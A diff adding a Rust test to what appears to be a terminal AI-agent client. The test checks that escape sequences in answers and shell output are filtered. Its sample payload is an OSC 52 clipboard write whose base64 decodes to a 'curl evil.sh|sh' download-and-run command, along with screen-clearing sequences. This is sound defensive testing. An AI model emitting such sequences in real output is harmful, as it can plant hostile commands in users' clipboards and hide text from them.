@@ -111,3 +111,35 @@ fn a_resumed_session_counts_on_from_its_tokens() {
     pty.wait_text("in 200 · cached 0 · out 40");
     quit(pty);
 }
+
+/// An answer and a command's output carrying escape sequences: none
+/// reaches the terminal, the screen is not cleared, the text shows.
+#[test]
+fn escape_sequences_in_answers_and_output_never_reach_the_terminal() {
+    let env = TestEnv::new("responses");
+    let hostile = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b[2J\x1b[H";
+    env.server.push_all([
+        Reply::steps(vec![
+            Step::text(format!("before{hostile}after")),
+            Step::tool_call(
+                "esc",
+                "shell",
+                json!({"command": "printf 'out\\033]52;c;ZXZpbA==\\007\\033[2J'; exit 3"}),
+            ),
+        ]),
+        Reply::text("all done"),
+    ]);
+    let mut pty = start(&env, &["--approval", "never"], 100);
+    pty.send("go\r");
+    let screen = pty.wait_text("all done");
+    assert!(screen.contains("beforeafter"), "{screen}");
+    assert!(
+        screen.contains("/help for keys") && screen.contains("› go"),
+        "nothing was cleared: {screen}"
+    );
+    let raw = pty.output();
+    for bad in ["\x1b]52", "\x1b[2J", "\x07"] {
+        assert!(!raw.contains(bad), "{bad:?} reached the terminal");
+    }
+    quit(pty);
+}
